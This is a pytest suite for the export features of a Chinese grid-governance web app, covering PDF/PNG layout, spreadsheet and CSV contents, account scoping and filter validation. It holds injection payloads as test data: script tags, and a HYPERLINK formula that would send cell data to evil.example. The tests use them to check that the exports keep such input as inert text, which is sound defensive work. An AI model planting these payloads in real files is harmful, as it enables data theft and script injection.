"""Print and export of the center's view (/center/export.pdf, .png, .xlsx, .csv): one A4 page
read back with poppler (its text, and as pixels), tables opened as a spreadsheet would, the
scope of a chain account, formulas and markup in titles, bad filters, and no font."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import uuid
import zipfile
from datetime import timedelta

import numpy as np
import openpyxl
import pytest
from PIL import Image
from werkzeug.datastructures import MultiDict

from gridmap.accounts.policy import Actor
from gridmap.center import cjkfont, export, printout, sheets
from gridmap.center.analysis import Analyst
from gridmap.core import clock
from gridmap.data import accounts
from gridmap.demo import accounts as demo_accounts
from gridmap.people import sessions
from tests import small_street as st
from tests.conftest import csrf_token, sign_in

AT = clock.now()  # every request of this file is answered at one pinned moment
TODAY = clock.local(AT).date()
STREET = "420114004"
KINDS = ("dispute", "mediation", "petition", "enforcement")  # the center's default kinds
# Five years back (the longest period a filter takes): every overdue case of the demo.
LONG = {"from": (TODAY - timedelta(days=1800)).isoformat(), "to": TODAY.isoformat()}
YEAR = {"from": (TODAY - timedelta(days=364)).isoformat(), "to": TODAY.isoformat()}


def get(client, path: str, args: dict | None = None):
    with clock.moment(AT):
        return client.get(path, query_string=MultiDict(list(_pairs(args or {}))))


def _pairs(args: dict):
    for key, value in args.items():
        for v in value if isinstance(value, list | tuple) else [value]:
            yield key, v


def poppler(tool: str, *args) -> bytes:
    return subprocess.run([tool, *map(str, args)], check=True, capture_output=True).stdout


def pdf_text(path) -> str:
    return re.sub(r"\s+", "", poppler("pdftotext", path, "-").decode("utf-8"))


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8, not GBK
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def listed_ids(client, args: dict) -> set[int]:
    """Every incident the person's API list gives for these filters (page after page)."""
    query = {**args, "state": "all", "sort": "newest", "limit": 200, "kind": list(KINDS)}
    answer = get(client, "/api/incidents", query).get_json()
    ids = {i["id"] for i in answer["items"]}
    while answer["next"]:
        with clock.moment(AT):
            answer = client.get(answer["next"]).get_json()
        ids |= {i["id"] for i in answer["items"]}
    return ids


def view_of(conn, username: str, args: dict, street: str = STREET) -> export.View:
    """The export's view, asked of the service as the route asks it."""
    account = accounts.by_username(conn, street, username)
    with clock.moment(AT):
        actor = Actor.of(account, sessions.scope_of(conn, account))
        return export.view(conn, Analyst(), actor, MultiDict(list(_pairs(args))))


def test_the_pdf_is_one_a4_page_with_title_period_filters_legend_and_mark(client, tmp_path):
    args = {**YEAR, "kind": ["dispute", "petition"], "state": "open"}
    r = get(client, "/center/export.pdf", args)
    assert r.status_code == 200 and r.mimetype == "application/pdf"
    assert r.headers["Cache-Control"] == "no-store"
    path = tmp_path / "view.pdf"
    path.write_bytes(r.data)
    info = poppler("pdfinfo", path).decode()
    assert re.search(r"Pages:\s+1\n", info), info
    assert "595.276 x 841.89 pts (A4)" in info, info
    text = pdf_text(path)
    for words in (
        "侏儒山街道网格化治理·事件与热点",
        f"时间：{YEAR['from']}至{YEAR['to']}",
        "事件类型：矛盾纠纷、信访",
        "分类：全部",
        "范围：全街道",
        "办理状态：办理中",
        "图例",
        "红：超期",
        "黄：临近期限",
        "绿：期限内",
        "灰：已办结",
        "高发网格·十分明显",
        "村（社区）界",
        "高发网格（统计上显著",
        "示意数据",
        "打印：",
        "（center）",
    ):
        assert words in text, words


def test_the_pdf_as_pixels_is_a4_with_red_where_each_overdue_case_is(client, conn, tmp_path):
    args = {**LONG, "overdue": "1"}
    overdue = get(
        client, "/api/incidents", {**LONG, "state": "open", "light": "red", "limit": 200}
    ).get_json()["items"]
    overdue = [i for i in overdue if i["kind"] in KINDS]
    assert overdue, "the demo street has overdue cases"
    path = tmp_path / "overdue.pdf"
    path.write_bytes(get(client, "/center/export.pdf", args).data)
    poppler("pdftoppm", "-r", 100, "-png", "-singlefile", path, tmp_path / "page")
    pixels = red(Image.open(tmp_path / "page.png"))
    height, width = pixels.shape
    assert abs(height / width - 297 / 210) < 0.01, pixels.shape  # A4's proportions
    extent = printout.map_extent(view_of(conn, "center", args))
    for case in overdue:
        fx, fy = printout.page_point(extent, case["lon"], case["lat"])
        x, y = round(fx * width), round(fy * height)
        assert pixels[max(y - 4, 0) : y + 5, max(x - 4, 0) : x + 5].any(), (case["id"], x, y)
    # and no red on the map of a view without open cases
    closed = tmp_path / "closed.png"
    closed.write_bytes(get(client, "/center/export.png", {**LONG, "state": "closed"}).data)
    pixels = red(Image.open(closed))
    left, bottom, w, h = printout.MAP_BOX
    top, low = (
        round((1 - bottom - h) * pixels.shape[0]),
        round((1 - bottom - 0.05) * pixels.shape[0]),
    )
    # (above the map's own 示意数据 note, in red at its foot)
    assert (
        pixels[top:low, round(left * pixels.shape[1]) : round((left + w) * pixels.shape[1])].sum()
        < 20
    )


def red(image) -> np.ndarray:
    """Where an image is the red of an overdue marker."""
    rgb = np.asarray(image.convert("RGB")).astype(int)
    return (rgb[..., 0] > 150) & (rgb[..., 1] < 90) & (rgb[..., 2] < 90)


def test_the_png_export_is_a_valid_png_of_an_a4_page(client):
    r = get(client, "/center/export.png", YEAR)
    assert r.status_code == 200 and r.mimetype == "image/png"
    assert r.data.startswith(b"\x89PNG\r\n\x1a\n")
    Image.open(io.BytesIO(r.data)).verify()
    image = Image.open(io.BytesIO(r.data))
    assert image.width >= 1200 and abs(image.height / image.width - 297 / 210) < 0.01


def test_the_tables_hold_a_row_per_incident_the_page_counts(client):
    page = get(client, "/center/", YEAR).get_data(as_text=True)
    total = int(re.search(r'id="gm-total">(\d+)<', page).group(1))
    book = openpyxl.load_workbook(io.BytesIO(get(client, "/center/export.xlsx", YEAR).data))
    assert book.sheetnames == ["事件清单", "高发网格", "说明"]
    rows = list(book["事件清单"].iter_rows(values_only=True))
    assert rows[0] == sheets.INCIDENT_COLUMNS
    assert len(rows) - 1 == total > 100
    # a deadline is written as every page writes it (its last day, 24:00), for open cases only
    deadlines = {r[4].startswith("办理中"): r[7] for r in rows[1:]}
    assert re.fullmatch(r"\d{4}-\d\d-\d\d (24:00|\d\d:\d\d) 前", deadlines[True])
    assert not deadlines[False]
    spots = list(book["高发网格"].iter_rows(values_only=True))
    assert spots[0] == sheets.HOTSPOT_COLUMNS
    about = [r[0] for r in book["说明"].iter_rows(values_only=True)]
    assert "示意数据：边界、人员与事件均为虚构。" in about
    table = csv_rows(get(client, "/center/export.csv", YEAR).data)
    assert tuple(table[0]) == sheets.INCIDENT_COLUMNS and len(table) == len(rows)
    assert [int(r[0]) for r in table[1:]] == [r[0] for r in rows[1:]]
    hot = csv_rows(get(client, "/center/export.csv", {**YEAR, "table": "hotspots"}).data)
    assert tuple(hot[0]) == sheets.HOTSPOT_COLUMNS and len(hot) == len(spots)
    # nothing of the parties: no column for them, and the demo's party names appear nowhere
    assert not {"当事人", "姓名", "电话", "身份证"} & set("".join(sheets.INCIDENT_COLUMNS))


def test_a_view_of_more_incidents_than_an_export_holds_says_it_was_cut(
    client, monkeypatch, tmp_path
):
    monkeypatch.setattr(export, "CAP", 7)
    table = csv_rows(get(client, "/center/export.csv", YEAR).data)
    assert len(table) == 1 + 7 + 1 and "只列出最新的 7 件" in table[-1][0]
    book = openpyxl.load_workbook(io.BytesIO(get(client, "/center/export.xlsx", YEAR).data))
    assert book["事件清单"].max_row == 1 + 7
    assert any("只列出最新的 7 件" in r[0] for r in book["说明"].iter_rows(values_only=True))
    path = tmp_path / "cut.pdf"
    path.write_bytes(get(client, "/center/export.pdf", YEAR).data)
    assert "地图与表格只列出最新的7件" in pdf_text(path)


@pytest.mark.parametrize("username", ["gridmember", "leader", "groupleader"])
def test_a_chain_accounts_export_holds_their_scope_only(app, client, username):
    person = sign_in(app.test_client(), username)
    mine = csv_rows(get(person, "/center/export.csv", LONG).data)[1:]
    ids = {int(r[0]) for r in mine}
    assert ids == listed_ids(person, LONG) and ids
    assert ids < listed_ids(client, LONG)  # fewer than the street's
    book = openpyxl.load_workbook(io.BytesIO(get(person, "/center/export.xlsx", LONG).data))
    assert {r[0] for r in book["事件清单"].iter_rows(min_row=2, values_only=True)} == ids
    r = get(person, "/center/export.pdf", LONG)
    assert r.status_code == 200 and r.data.startswith(b"%PDF")


HOSTILE = (
    "<script>alert(1)</script>邻里纠纷",
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+SUM(1,2)",
    "-2+3 楼道堆物",
    "@SUM(A1:A9)",
)


@pytest.fixture()
def hostile_street(small_app):
    """The small street with reports whose titles are markup and formulas, stored through the
    phone's API as a grid member would."""
    member = sign_in(small_app.test_client(), "member1")
    headers = {"X-CSRFToken": csrf_token(member)}
    for title in HOSTILE:
        body = {
            "client_id": str(uuid.uuid4()),
            "kind": "dispute",
            "category": "neighbour",
            "title": title,
            "description": "测试",
            "lon": 114.0052,
            "lat": 30.0051,
            "crs": "wgs84",
            "position": "manual",
        }
        with clock.moment(AT):
            r = member.post("/api/incidents", json=body, headers=headers)
        assert r.status_code == 201, r.get_json()
    return small_app


def test_markup_and_formulas_in_titles_stay_text_in_xlsx_and_csv(hostile_street):
    center = sign_in(hostile_street.test_client(), "center")
    data = get(center, "/center/export.xlsx").data
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = {c.value: c for row in book["事件清单"].iter_rows(min_row=2) for c in row[3:4]}
    assert set(HOSTILE) <= set(cells)
    for title in HOSTILE:
        assert cells[title].data_type == "s"
        assert cells[title].quotePrefix == (title[0] in "=+-@")
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml
    titles = {r[3] for r in csv_rows(get(center, "/center/export.csv").data)[1:]}
    assert "<script>alert(1)</script>邻里纠纷" in titles
    for title in HOSTILE[1:]:
        assert "'" + title in titles and title not in titles


def test_a_grid_named_in_mathtext_is_printed_as_written(settings, conn, owner, tmp_path):
    from gridmap import create_app
    from gridmap.store import db

    st.create(owner, app=conn, grid_names={st.G1: "$\\alpha$网格<b>甲</b>"})
    app = create_app({**settings, "STREET_CODE": st.CODE, "TESTING": True})
    try:
        center = sign_in(app.test_client(), "center")
        path = tmp_path / "small.pdf"
        r = get(center, "/center/export.pdf")
        assert r.status_code == 200
        path.write_bytes(r.data)
        text = pdf_text(path)
        assert "$\\alpha$网格<b>甲</b>" in text and "测试街道网格化治理" in text
    finally:
        db.close(app)


@pytest.mark.parametrize(
    "args, words",
    [
        ({"from": "2024-13-01"}, "开始日期"),
        ({"from": "2024-05-01", "to": "2024-01-01"}, "开始日期晚于结束日期"),
        ({"from": "2015-01-01", "to": "2024-01-01"}, "时间范围最长为五年"),
        ({"kind": "nonsense"}, "未知的事件类型"),
        ({"village": "999"}, "未知的村（社区）"),
        ({"state": "maybe"}, "办理状态"),
        ({"overdue": "perhaps"}, "只看超期"),
    ],
)
@pytest.mark.parametrize("ext", ["pdf", "png", "xlsx", "csv"])
def test_bad_filters_are_refused_in_chinese(client, ext, args, words):
    r = get(client, f"/center/export.{ext}", args)
    assert r.status_code == 400 and r.mimetype == "text/html"
    assert words in r.get_data(as_text=True)


def test_a_table_that_does_not_exist_is_refused(client):
    r = get(client, "/center/export.csv", {"table": "parties"})
    assert r.status_code == 400 and "表格 table" in r.get_data(as_text=True)


def test_without_a_chinese_font_a_printout_says_so_and_tables_still_work(client, monkeypatch):
    monkeypatch.setattr(cjkfont, "FAMILIES", ())
    monkeypatch.setattr(cjkfont, "FILE_HINTS", ())
    monkeypatch.setattr(cjkfont, "_found", [])
    for ext in ("pdf", "png"):
        r = get(client, f"/center/export.{ext}", YEAR)
        assert r.status_code == 503 and "没有可用的中文字体" in r.get_data(as_text=True)
        assert "fonts-noto-cjk" in r.get_data(as_text=True)
    assert get(client, "/center/export.xlsx", YEAR).status_code == 200


def test_others_and_strangers_get_no_export(app, anonymous):
    planner = sign_in(app.test_client(), "planner", demo_accounts.PASSWORD)
    for ext in ("pdf", "csv"):
        r = anonymous.get(f"/center/export.{ext}")
        assert r.status_code == 302 and "/signin" in r.headers["Location"]
        r = planner.get(f"/center/export.{ext}")
        assert r.status_code == 403 and "无权" in r.get_data(as_text=True)


def test_the_links_carry_the_pages_query_string_as_text(app):
    from flask import render_template

    hostile = 'from=2024-01-01&kind=dispute&kind=petition&x="><script>alert(1)</script>'
    with app.test_request_context("/center/", environ_overrides={"QUERY_STRING": hostile}):
        html = render_template("_center_exports.html")
    assert "<script>" not in html and "&#34;&gt;&lt;script&gt;" in html
    links = re.findall(r'href="([^"]+)"', html)
    assert links[0].startswith("/center/export.pdf?from=2024-01-01&amp;kind=dispute&amp;kind=")
    assert {link.split("?")[0] for link in links} == {
        "/center/export.pdf",
        "/center/export.png",
        "/center/export.xlsx",
        "/center/export.csv",
    }
    assert links[-1].endswith("&amp;table=hotspots")
